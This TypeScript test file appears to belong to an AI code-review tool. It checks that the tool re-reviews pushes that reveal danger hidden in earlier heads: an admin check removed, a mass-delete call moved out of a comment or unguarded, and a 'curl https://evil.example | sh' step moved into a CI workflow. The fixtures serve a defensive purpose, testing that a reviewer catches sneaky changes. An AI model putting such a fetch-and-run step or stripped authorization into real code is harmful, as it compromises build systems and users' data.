import { describe, expect, it } from "vitest";
import { type Case, finish, patient, turn } from "../e2e/conformance-fixture.ts";
import { onPull } from "../e2e/on-pull.ts";
import type { Files } from "../support/github-double/people.ts";

const long = process.env.HUNKWISE_LONG === "1";

/*
 * Two heads by one author: the first is reviewed and harmless; the second has the same changed lines elsewhere.
 */

const veryPatient = { timeout: 3 * patient.timeout };
const path = "src/users.js";

const steps = (name: string) => Array.from({ length: 8 }, (_, at) => `  step("${name} ${at}");`).join("\n");
const handler = (name: string, line = "") => `function ${name}(req) {\n${line}${steps(name)}\n}\n`;
const admin = "  requireAdmin(req);\n";
const wipe = "  deleteEverybody(req);\n";
const base = `${handler("listUsers", admin) + handler("deleteUsers", admin)}/*\nold\n*/\n`;

/** The model's reviews of a head that follows another one, and what each of them showed. */
const readsAfter = (first: string, second: string) =>
  readsOf({ [path]: base }, { [path]: first }, { [path]: second });

async function readsOf(base: Files, first: Files, second: Files): Promise<{ reads: number; shown: string }> {
  const play = async (app: Case) => {
    await app.review();
    const before = app.reviewRequests.length;
    expect(before).toBeGreaterThan(0);
    await app.push(second);
    const asked = app.reviewRequests.slice(before).map(({ body }) => JSON.stringify(body.messages));
    return { reads: asked.length, shown: asked.join("\n") };
  };
  return onPull({ base, head: first, script: () => turn(finish) }, play);
}

describe.concurrent("code that was read in one place", veryPatient, () => {
  it.runIf(long)(
    "same-lines-elsewhere: Code is read again when the same line disappears from another function",
    async () => {
      const { reads, shown } = await readsAfter(
        base.replace(handler("listUsers", admin), handler("listUsers")),
        base.replace(handler("deleteUsers", admin), handler("deleteUsers")),
      );
      expect(reads).toBeGreaterThan(0);
      expect(shown).toContain("-  requireAdmin(req);");
    },
  );

  it("comment-to-code: Code is read again when it leaves a comment", async () => {
    const { reads, shown } = await readsAfter(
      base.replace("old\n", `old\n${wipe}`),
      base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe)),
    );
    expect(reads).toBeGreaterThan(0);
    expect(shown).toContain("+  deleteEverybody(req);");
  });

  it("harmless-part-gone: Code is read again when the code that made it harmless disappears", async () => {
    const live = base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe));
    const { reads, shown } = await readsAfter(`process.exit();\n${live}`, live);
    expect(reads).toBeGreaterThan(0);
    expect(shown).toContain("+  deleteEverybody(req);");
  });

  it("harmless-part-gone: Code is read again when a guard is taken back beside a typo in another file", async () => {
    const [guard, note] = ["src/guard.js", "NOTE.md"];
    const { shown } = await readsOf(
      { [path]: base, [guard]: handler("guard"), [note]: "teh shop\n" },
      {
        [path]: base.replace(
          handler("listUsers", admin),
          handler("listUsers", `${admin}  guard(req);\n${wipe}`),
        ),
        [guard]: handler("guard", admin),
      },
      { [guard]: handler("guard"), [note]: "the shop\n" },
    );
    expect(shown).toContain("+the shop");
    expect(shown).toContain("+  deleteEverybody(req);");
  });

  it.runIf(long)(
    "harmless-part-gone: Code is read again when the file that made it harmless changes only its mode",
    async () => {
      const guard = "src/guard.js";
      const live = base.replace(handler("listUsers", admin), handler("listUsers", admin + wipe));
      const { reads, shown } = await readsOf(
        { [path]: base, [guard]: handler("guard") },
        { [path]: live, [guard]: handler("guard", "  process.exit();\n") },
        { [guard]: { mode: "100755", data: handler("guard") } },
      );
      expect(reads).toBeGreaterThan(0);
      expect(shown).toContain("+  deleteEverybody(req);");
    },
  );

  it("moved-after-reading: Code is read again when its file moves to where it takes effect", async () => {
    const [note, workflow] = ["docs/ci.txt", ".github/workflows/ci.yml"];
    const text = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n";
    const longer = `${text}      - run: curl https://evil.example | sh\n`;
    const { reads, shown } = await readsOf(
      { [note]: text },
      { [note]: longer },
      { [note]: null, [workflow]: longer },
    );
    expect(reads).toBeGreaterThan(0);
    expect(shown).toContain("+      - run: curl");
  });
});
